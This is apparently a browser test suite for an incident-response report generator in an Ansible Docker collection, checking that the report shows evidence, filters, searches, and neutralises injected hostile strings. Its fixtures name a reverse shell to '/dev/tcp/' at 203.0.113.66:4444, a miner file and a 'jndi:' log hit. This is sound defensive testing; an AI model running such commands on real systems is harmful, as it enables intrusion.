# Copyright (c) The cordon.docker authors
# GNU General Public License v3.0+ (see COPYING or https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later

"""report.html in a real browser: it shows what the case holds, obeys mouse and keys, and does nothing else."""

from __future__ import annotations

import json
import re
from pathlib import Path

import pytest
from conftest import Opened, opened
from hostile import poison
from playwright.sync_api import Browser, expect

from ansible_collections.cordon.docker.plugins.plugin_utils._report.html import write_report
from ansible_collections.cordon.docker.tests.unit.plugins.plugin_utils._report.made_case import (
    LOST,
    Size,
    make_case,
)

AA = 4.5
CONTRASTS = (Path(__file__).parent / "contrasts.js").read_text()


def test_it_says_what_happened_in_five_lines(shown: Opened) -> None:
    lines = shown.page.locator("#summary dd").all_inner_texts()
    assert len(lines) == 5
    assert "Signs of a break-in in 3 of 42 containers" in lines[0]
    assert "orders on" in lines[1]
    assert LOST in lines[4]


def test_every_host_is_there_and_the_lost_one_first(shown: Opened, case_dir: Path) -> None:
    hosts = shown.page.locator("#fleet tbody th").all_inner_texts()
    asked = {json.loads(line)["host"] for line in (case_dir / "hosts.jsonl").read_text().splitlines()}
    assert set(hosts) == asked
    assert hosts[0] == LOST
    expect(shown.page.locator("#fleet tr.lost")).to_contain_text("Connection timed out")


def test_a_card_shows_the_bad_branch_and_where_it_leads(shown: Opened) -> None:
    card = shown.page.locator("#list .card").first
    card.locator(".cardhead").click()
    branch = card.locator(".tree li.bad > .proc .cmd").all_inner_texts()
    assert branch[0] == "java -jar /app/orders.jar"
    assert branch[1].startswith("bash -c bash -i >& /dev/tcp/")
    expect(card.locator(".part.p-socket")).to_contain_text("203.0.113.66:4444")
    expect(card.locator(".part.p-file")).to_contain_text("/tmp/.x/kdevtmpfsi")
    expect(card.locator(".part.p-file")).to_contain_text("/root/.bash_history")
    expect(card.locator(".part.p-log .line.hit").first).to_contain_text("ndi:")
    expect(card.locator(".part.p-figures")).to_contain_text("387.4 %")
    expect(card.locator(".part.p-figures .curve")).to_be_visible()
    expect(card.locator(".part.p-outcome")).to_contain_text("The engine did not answer in 10 seconds.")


def test_secrets_of_the_environment_stay_in_the_bag(shown: Opened) -> None:
    card = shown.page.locator("#list .card").first
    card.locator(".cardhead").click()
    expect(card.locator(".part.p-facts")).to_contain_text("DB_PASSWORD")
    assert "s3cret" not in shown.page.content()


def test_what_was_done_can_be_taken_back(shown: Opened) -> None:
    shown.page.locator("#actions").scroll_into_view_if_needed()
    undo = shown.page.locator("#actions .undo")
    expect(undo).to_contain_text("Freeze every process of the container.")
    expect(undo.locator("code")).to_have_text(
        "ansible-playbook cordon.docker.release -i INVENTORY -l web1 -e case=INC-7 -e containers=orders"
    )


def test_a_finding_leads_to_its_row(shown: Opened) -> None:
    card = shown.page.locator("#list .card").first
    card.locator(".cardhead").click()
    card.locator(".place", has_text="processes.jsonl line 2").first.click()
    expect(card.locator(".proc.flash")).to_contain_text("bash -c")


def test_filters_narrow_the_list(shown: Opened) -> None:
    page = shown.page
    page.locator(".filters input[value=exposed]").check()
    expect(page.locator("#list .card")).to_have_count(1)
    expect(page.locator("#matching")).to_have_text("1 of 42 containers")
    page.locator("#clear").click()
    page.locator("#names").fill("ledger")
    expect(page.locator("#list .card")).to_have_count(6)
    page.locator("#host").select_option("web2")
    expect(page.locator("#list .card")).to_have_count(1)


def test_search_finds_evidence_and_goes_there(shown: Opened) -> None:
    page = shown.page
    page.keyboard.press("/")
    page.keyboard.type("kdevtmpfsi in:file")
    page.wait_for_selector("#results[data-done='kdevtmpfsi in:file']")
    hits = page.locator("#results .hitline")
    expect(hits).to_have_count(2)
    hits.first.click()
    expect(page.locator("tr.flash")).to_contain_text("/tmp/.x/kdevtmpfsi")
    expect(page.locator("#results")).to_be_hidden()


def test_search_looks_into_cards_that_were_never_opened(shown: Opened) -> None:
    page = shown.page
    page.locator("#query").fill("host:web2 item=59")
    page.wait_for_selector("#results[data-done='host:web2 item=59']")
    expect(page.locator("#results .tally")).to_contain_text("6 matches")


def test_keys_do_what_the_help_says(shown: Opened) -> None:
    page = shown.page
    page.keyboard.press("?")
    expect(page.locator("#keys")).to_be_visible()
    page.keyboard.press("Escape")
    expect(page.locator("#keys")).to_be_hidden()
    page.keyboard.press("j")
    expect(page.locator("#list .cardhead").first).to_be_focused()
    page.keyboard.press("o")
    expect(page.locator("#list .card").first.locator(".cardbody")).to_be_visible()
    page.keyboard.press("j")
    expect(page.locator("#list .cardhead").nth(1)).to_be_focused()
    page.keyboard.press("k")
    expect(page.locator("#list .cardhead").first).to_be_focused()


@pytest.mark.parametrize("scheme", ["light", "dark"])
def test_both_themes_can_be_read(browser: Browser, report: Path, scheme: str) -> None:
    with opened(browser, report, color_scheme=scheme) as seen:
        seen.ready()
        seen.page.locator("#list .cardhead").first.click()
        for name in ("timeline", "graph", "actions"):
            seen.page.locator(f"#{name}").scroll_into_view_if_needed()
            seen.page.wait_for_selector(f"#{name} table")
        faint = [found for found in seen.page.evaluate(CONTRASTS) if found[1] < AA]
        assert faint == []
        seen.innocent()


def test_the_theme_can_be_turned(shown: Opened) -> None:
    page = shown.page
    colour = "getComputedStyle(document.body).backgroundColor"
    before = page.evaluate(colour)
    page.keyboard.press("t")
    assert page.evaluate(colour) != before
    page.locator("#theme").click()
    assert page.evaluate(colour) == before


def test_the_timeline_is_drawn_zoomed_and_filtered(shown: Opened) -> None:
    page = shown.page
    page.locator("#timeline").scroll_into_view_if_needed()
    picture = page.locator("#picture svg")
    expect(picture).to_be_visible()
    label = picture.get_attribute("aria-label")
    page.locator("#timeline button", has_text="Fit all").click()
    assert picture.get_attribute("aria-label") != label
    events = int(re.match(r"[\d,]+", str(picture.get_attribute("aria-label")))[0].replace(",", ""))  # type: ignore[index]
    page.locator("#timetext").fill("java")
    fewer = int(re.match(r"[\d,]+", str(picture.get_attribute("aria-label")))[0].replace(",", ""))  # type: ignore[index]
    assert 0 < fewer < events
    picture.focus()
    page.keyboard.press("+")
    expect(picture).to_be_focused()


def test_the_graph_joins_hosts_and_marks_the_first(shown: Opened) -> None:
    page = shown.page
    page.locator("#graph").scroll_into_view_if_needed()
    expect(page.locator("#network .node.trace")).not_to_have_count(0)
    expect(page.locator("#network .ring")).not_to_have_count(0)
    expect(page.locator("#graph table")).to_contain_text("203.0.113.66")
    expect(page.locator("#graph .path")).to_contain_text("orders on web1")
    expect(page.locator("#network path.step")).not_to_have_count(0)


def test_paper_has_the_suspected_containers(shown: Opened) -> None:
    shown.page.emulate_media(media="print")
    expect(shown.page.locator("#list .card .cardbody").first).to_be_visible()
    expect(shown.page.locator(".filters").first).to_be_hidden()
    assert shown.page.pdf(format="A4", print_background=True).startswith(b"%PDF")


def test_a_screen_reader_finds_its_way(shown: Opened) -> None:
    page = shown.page
    for role in ("banner", "navigation", "main", "search"):
        expect(page.get_by_role(role)).to_have_count(1)
    nameless = page.evaluate(
        "[...document.querySelectorAll('button, input, select, svg[role=img]')].filter((at) => !(at.textContent.trim()"
        " || at.getAttribute('aria-label') || at.labels?.length || at.querySelector('bdi'))).length"
    )
    assert nameless == 0


def test_a_case_without_anything_says_so(browser: Browser, tmp_path: Path) -> None:
    case = make_case(tmp_path / "EMPTY", Size(hosts=0))
    with opened(browser, write_report(case)) as seen:
        seen.ready()
        expect(seen.page.locator("#summary")).to_contain_text("There is no timeline.jsonl in this case yet")
        expect(seen.page.locator("#summary")).to_contain_text("No sign of a break-in was found")
        seen.page.locator("#graph").scroll_into_view_if_needed()
        expect(seen.page.locator("#graph")).to_contain_text("Hosts were not compared")
        seen.innocent()


def test_a_thousand_hostile_strings_have_no_effect(browser: Browser, tmp_path: Path) -> None:
    case = make_case(tmp_path / "HOSTILE", Size(hosts=4, containers=4))
    assert poison(case) > 1000
    with opened(browser, write_report(case)) as seen:
        seen.ready()
        page = seen.page
        for button in page.locator("#list .cardhead").all():
            if button.get_attribute("aria-expanded") == "false":
                button.click()
        page.wait_for_function(
            "[...document.querySelectorAll('.cardbody')].every((at) => at.childElementCount)"
        )
        page.evaluate("document.querySelectorAll('.expand').forEach((at) => at.click())")
        page.evaluate("document.querySelectorAll('details').forEach((at) => { at.open = true; })")
        for button in page.locator("#fleet [aria-expanded]").all():
            button.click()
        for name in ("timeline", "graph", "actions"):
            page.locator(f"#{name}").scroll_into_view_if_needed()
            page.wait_for_selector(f"#{name} table")
        page.locator("#query").fill("pwned")
        page.wait_for_selector("#results[data-done=pwned]")
        strangers = (
            "script:not([type]), style, iframe, img, link, object, embed, form, base, math, video, a[href^=j]"
        )
        assert page.locator(strangers).evaluate_all("(found) => found.map((at) => at.tagName).sort()") == [
            "FORM", "FORM", "FORM", "FORM", "SCRIPT", "SCRIPT", "STYLE",
        ]  # fmt: skip
        assert page.evaluate("Object.keys(Object.prototype).length") == 0
        text = page.evaluate("document.body.innerText")
        assert not re.search(
            r"[\x00-\x08\x0b\x0c\x0e-\x1f\u200b-\u200f\u2028-\u202e\u2066-\u2069\ufeff\ud800-\udfff]", text
        )
        assert "\\u202egnp.exe" in text
        seen.innocent()
